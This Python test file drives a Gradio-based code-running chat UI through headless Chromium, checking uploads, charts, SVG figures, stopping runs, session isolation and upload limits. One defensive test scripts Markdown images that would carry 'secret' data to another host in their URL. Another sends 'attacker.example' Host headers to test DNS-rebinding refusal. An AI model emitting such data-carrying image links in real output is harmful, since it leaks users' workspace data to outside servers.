"""The browser UI as a person uses it: headless Chromium against a real server on loopback, the
real docker sandbox, and the scripted model (the only fake) behind the OpenAI-compatible protocol.

Screenshots land in ``artifacts/web/`` for a human to look at.
"""

from __future__ import annotations

import csv
import http.server
import re
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from bench.scripted_model import last_observation
from tests.support.browser import ask
from tests.support.replies import fenced
from tests.support.sandboxes import ROOT, docker_settings
from tests.support.server import EXAMPLE_CSV, UPLOAD_LIMIT_MB, AppServer, WebServer
from ui.services import ServeSettings, Services

ARTIFACTS = ROOT / "artifacts" / "web"


def open_page(browser, server: WebServer, blocked: list[str], refused: list[str] | None = None,
              also_allow: tuple[str, ...] = ()):
    """A fresh browser context (its own Gradio session): every request off loopback (and the
    ``also_allow`` hosts) is refused and recorded in ``blocked``; what the page's
    Content-Security-Policy refused is recorded in ``refused``."""
    context = browser.new_context(viewport={"width": 1400, "height": 1000}, locale="en-US")

    def guard(route):
        host = re.sub(r"^\w+://([^/:]+).*$", r"\1", route.request.url)
        if host in ("127.0.0.1", "localhost", *also_allow) or route.request.url.startswith(("data:", "blob:")):
            route.continue_()
        else:
            blocked.append(route.request.url)
            route.abort()

    context.route("**/*", guard)
    page = context.new_page()
    if refused is not None:
        page.on("console", lambda m: refused.append(m.text) if "Content Security Policy" in m.text else None)
    page.goto(server.url)
    page.locator("#jb-input textarea").wait_for(timeout=20_000)
    return context, page


def listed(page, name: str):
    """The download link of a workspace file in the files panel."""
    return page.locator(f"#jb-files a[href$='/{name}']")


def shot(page, name: str) -> None:
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / f"{name}.png"), full_page=True)


def top_region() -> tuple[str, float]:
    totals: dict[str, float] = {}
    with EXAMPLE_CSV.open() as fh:
        for row in csv.DictReader(fh):
            totals[row["region"]] = totals.get(row["region"], 0.0) + float(row["revenue"])
    region = max(totals, key=totals.get)
    return region, round(totals[region], 2)


def test_upload_ask_and_see_code_chart_and_answer(web_server: WebServer, browser) -> None:
    from playwright.sync_api import expect

    blocked: list[str] = []
    refused: list[str] = []
    context, page = open_page(browser, web_server, blocked, refused)
    page.locator("input[data-testid$='upload-button']").set_input_files(str(EXAMPLE_CSV))
    expect(listed(page, "sales.csv")).to_have_count(1, timeout=20_000)
    web_server.model.enqueue(
        fenced("import pandas as pd\nimport matplotlib.pyplot as plt\ndf = pd.read_csv('sales.csv')\n"
               "by = df.groupby('region').revenue.sum()\nprint(by.idxmax(), round(by.max(), 2))\n"
               "by.plot.bar(title='Revenue by region · 各地区销售额')\nplt.show()"),
        lambda body: "The top region is **{}** with revenue {} (see the chart). $E = mc^2$".format(
            *last_observation(body).split()[:2]))
    page.locator("#jb-input input[type='file']").set_input_files(str(EXAMPLE_CSV))  # attached to the question too
    expect(page.locator("#jb-input .thumbnail-item")).to_have_count(1, timeout=20_000)  # uploaded, shown
    ask(page, "Which region sold the most? Plot revenue by region.")
    chat = page.locator("#jb-chat")
    expect(chat).to_contain_text("df.groupby('region').revenue.sum()", timeout=30_000)
    region, revenue = top_region()
    expect(chat).to_contain_text(f"The top region is {region} with revenue {revenue}", timeout=30_000)
    expect(chat.locator("img").first).to_be_visible(timeout=10_000)
    assert chat.locator(".katex").count() >= 1  # LaTeX rendered
    expect(listed(page, "fig-001.png")).to_have_count(1)
    assert "sales.csv" in web_server.model.history[-2]["messages"][-1]["content"]  # announced to the model
    shot(page, "answer-with-chart")
    # the icons are images every browser draws (no emoji font needed): the file chip and the cell's status
    for name in ("icon-file", "icon-ok"):
        icon = chat.locator(f"img[alt='{name}']").first
        icon.scroll_into_view_if_needed()
        expect(icon).to_be_visible(timeout=10_000)
        assert icon.evaluate("img => img.complete && img.naturalWidth > 0"), name
    chat.locator("img[alt='icon-ok']").first.screenshot(path=str(ARTIFACTS / "code-header-icon.png"))
    page.locator("#jb-chat").screenshot(path=str(ARTIFACTS / "chat-top.png"))
    page.locator("#jb-notebook").click()
    expect(page.locator("#jb-nb-file")).to_contain_text(".ipynb", timeout=10_000)
    assert blocked == [], f"the page tried to reach other hosts: {blocked}"
    assert refused == [], f"the Content-Security-Policy refused what the page needs: {refused}"
    context.close()


@pytest.fixture
def outside_host() -> Iterator[tuple[str, list[str]]]:
    """A web server "elsewhere" (127.0.0.2: another origin to the page), and the paths asked of it."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.2", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.2:{server.server_address[1]}", asked
    server.shutdown()
    server.server_close()


def test_an_svg_figure_is_shown_in_the_chat(web_server: WebServer, browser) -> None:
    """Gradio serves an SVG file as a download, so a kernel's SVG plot showed nothing in the chat:
    it is shown inline as an image (an ``<img>`` never runs an SVG's script)."""
    from playwright.sync_api import expect

    blocked: list[str] = []
    context, page = open_page(browser, web_server, blocked)
    web_server.model.enqueue(
        fenced("%config InlineBackend.figure_formats = ['svg']\nimport matplotlib.pyplot as plt\n"
               "plt.plot([1, 3, 2])\nplt.title('an svg plot')\nplt.show()"), "Drawn as SVG.")
    ask(page, "Plot three points as SVG.")
    chat = page.locator("#jb-chat")
    expect(chat).to_contain_text("Drawn as SVG.", timeout=30_000)
    figure = chat.locator("img[alt='figure']").first
    expect(figure).to_be_visible(timeout=10_000)
    assert figure.get_attribute("src").startswith("data:image/svg+xml;base64,")
    assert figure.evaluate("img => img.complete && img.naturalWidth > 100")
    expect(listed(page, "fig-001.svg")).to_have_count(1)
    shot(page, "svg-figure")
    assert blocked == []
    context.close()


def test_shown_output_cannot_send_workspace_data_to_other_hosts(web_server: WebServer, browser,
                                                                outside_host: tuple[str, list[str]]) -> None:
    """Kernel output and the model's answer are rendered as Markdown: an image from another host
    in either would make the browser send what its URL carries there. The page's policy refuses."""
    from playwright.sync_api import expect

    elsewhere, asked = outside_host
    refused: list[str] = []
    context, page = open_page(browser, web_server, [], refused, also_allow=("127.0.0.2",))
    web_server.model.enqueue(
        fenced("from IPython.display import Markdown, display\n"
               f"display(Markdown('![chart]({elsewhere}/display.png?d=' + 'secret' + ')'))"),
        f"Done. ![chart]({elsewhere}/answer.png?d=secret)")
    ask(page, "Show me a chart")
    chat = page.locator("#jb-chat")
    expect(chat).to_contain_text("Done.", timeout=30_000)
    expect(chat.locator(f"img[src^='{elsewhere}/']")).to_have_count(2)  # rendered, and refused
    deadline = time.monotonic() + 5
    while len(refused) < 2 and time.monotonic() < deadline:
        page.wait_for_timeout(100)
    assert asked == [], f"the browser fetched from another host: {asked}"
    assert len(refused) >= 2 and all("img-src" in r for r in refused), refused
    context.close()


def test_without_a_token_only_requests_for_loopback_names_are_served(web_server: WebServer) -> None:
    """A page of another site that points its own name at 127.0.0.1 (DNS rebinding) is refused."""
    port = web_server.url.rstrip("/").rsplit(":", 1)[1]
    with httpx.Client(base_url=web_server.url, timeout=30) as c:
        for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"[::1]:{port}", "localhost"):
            assert c.get("/api/status", headers={"Host": host}).status_code == 200, host
        for host in (f"attacker.example:{port}", "127.0.0.1.attacker.example", "[::2]"):
            r = c.get("/api/status", headers={"Host": host})
            assert r.status_code == 400 and "--api-token" in r.json()["error"], host
        assert c.get("/", headers={"Host": f"attacker.example:{port}"}).status_code == 400
        assert c.get("/healthz", headers={"Host": "attacker.example"}).status_code == 200


def test_uploads_through_the_page_are_bounded_by_the_upload_limit(web_server: WebServer) -> None:
    limit = UPLOAD_LIMIT_MB << 20
    with httpx.Client(base_url=web_server.url, timeout=30) as c:
        assert c.get("/config").json()["max_file_size"] == limit  # the page refuses larger files itself
        r = c.post("/gradio_api/upload", files={"files": ("big.bin", b"0" * limit)})
        assert r.status_code == 413
        r = c.post("/gradio_api/upload", files={"files": ("small.csv", b"a,b\n1,2\n")})
        assert r.status_code == 200 and r.json()[0].endswith("small.csv")


def test_stop_interrupts_a_long_run(web_server: WebServer, browser) -> None:
    from playwright.sync_api import expect

    context, page = open_page(browser, web_server, [])
    web_server.model.enqueue(fenced("import time\nfor i in range(600):\n    print('tick', i, flush=True)\n"
                                    "    time.sleep(0.1)"))
    before = len(web_server.model.history)
    ask(page, "Count slowly")
    chat = page.locator("#jb-chat")
    expect(chat).to_contain_text("tick 5", timeout=30_000)
    t0 = time.monotonic()
    page.locator("#jb-stop").click()
    expect(chat).to_contain_text("Stopped.", timeout=10_000)
    assert time.monotonic() - t0 < 10
    expect(chat).to_contain_text("KeyboardInterrupt")
    assert len(web_server.model.history) == before + 1  # the model was not asked again
    shot(page, "stopped")
    context.close()


def test_two_browser_contexts_have_separate_sessions_and_closing_frees_one(web_server: WebServer, browser) -> None:
    from playwright.sync_api import expect

    manager = web_server.services.manager
    ctx_a, page_a = open_page(browser, web_server, [])
    ctx_b, page_b = open_page(browser, web_server, [])
    page_a.locator("input[data-testid$='upload-button']").set_input_files(
        files=[{"name": "only-in-a.txt", "mimeType": "text/plain", "buffer": b"alpha"}])
    expect(listed(page_a, "only-in-a.txt")).to_have_count(1, timeout=20_000)
    web_server.model.enqueue(fenced("import os\nsecret = 'from-a'\nprint(sorted(os.listdir('.')))"),
                             lambda body: "A sees " + last_observation(body))
    ask(page_a, "list files")
    expect(page_a.locator("#jb-chat")).to_contain_text("A sees ['only-in-a.txt']", timeout=30_000)
    web_server.model.enqueue(fenced("import os\nprint(sorted(os.listdir('.')), 'secret' in globals())"),
                             lambda body: "B sees " + last_observation(body))
    ask(page_b, "list files")
    expect(page_b.locator("#jb-chat")).to_contain_text("B sees [] False", timeout=30_000)
    assert listed(page_b, "only-in-a.txt").count() == 0
    a_session = [x.id for x in manager.list() if x.workspace.exists("only-in-a.txt")]
    assert len(a_session) == 1
    others = {x.id for x in manager.list()} - set(a_session)
    shot(page_a, "session-a")
    shot(page_b, "session-b")
    ctx_a.close()  # closing the tab frees its container; the other tab keeps its own
    deadline = time.monotonic() + 15
    while a_session[0] in {x.id for x in manager.list()} and time.monotonic() < deadline:
        time.sleep(0.2)
    still_open = {x.id for x in manager.list()}
    assert a_session[0] not in still_open
    assert len(others & still_open) >= 1
    ctx_b.close()


def test_page_without_a_model_says_what_to_configure(sandbox_image: str, jb_home: Path, browser) -> None:
    """No model could be loaded: the page still starts and says, in words, what to set."""
    services = Services(ServeSettings(sandbox=docker_settings(jb_home, instance="webui-nomodel")))
    services.service.model_error = "the model server is not configured — pass --openai-base-url URL"
    page_text = _render_once(services, browser)
    assert "No language model is available" in page_text and "--openai-base-url" in page_text


def _render_once(services: Services, browser) -> str:
    """The page of ``services`` as set up (not started: the test decides what they hold)."""
    from fastapi import FastAPI

    from ui.web import mount_ui
    from ui.web_guard import UploadCache

    app = FastAPI()
    mount_ui(app, services, UploadCache(services.settings.sandbox.home / "ui-nomodel"))
    with AppServer(services, app=app) as server:
        page = browser.new_page()
        page.goto(f"{server.url}/")
        page.locator("#jb-banner").wait_for(timeout=20_000)
        shot(page, "no-model")
        text = page.locator("#jb-banner").inner_text()
        page.close()
        return text


def test_a_tab_dropped_without_unload_leaves_no_folder_behind(tmp_path: Path) -> None:
    """Gradio drops the state of a tab whose client never said goodbye; nothing of it may stay."""
    from ui.web import WebUI, _close_soon
    from ui.web_guard import UploadCache

    cache = UploadCache(tmp_path / "ui")
    ui = WebUI(Services(ServeSettings(sandbox=docker_settings(tmp_path / "jb"))), cache)  # nothing started
    idle = ui.tab(None, None)
    assert idle._served is None  # a page that never shows a file makes no folder
    shown = ui.tab(None, None)
    folder = shown.served
    (folder / "chart.png").write_bytes(b"\x89PNG")
    assert set(ui.tabs) == {idle.key, shown.key}
    _close_soon(ui, shown)
    _close_soon(ui, idle)
    assert folder.parent == cache.folder and oct(cache.folder.stat().st_mode & 0o777) == "0o700"
    assert not folder.exists() and ui.tabs == {}
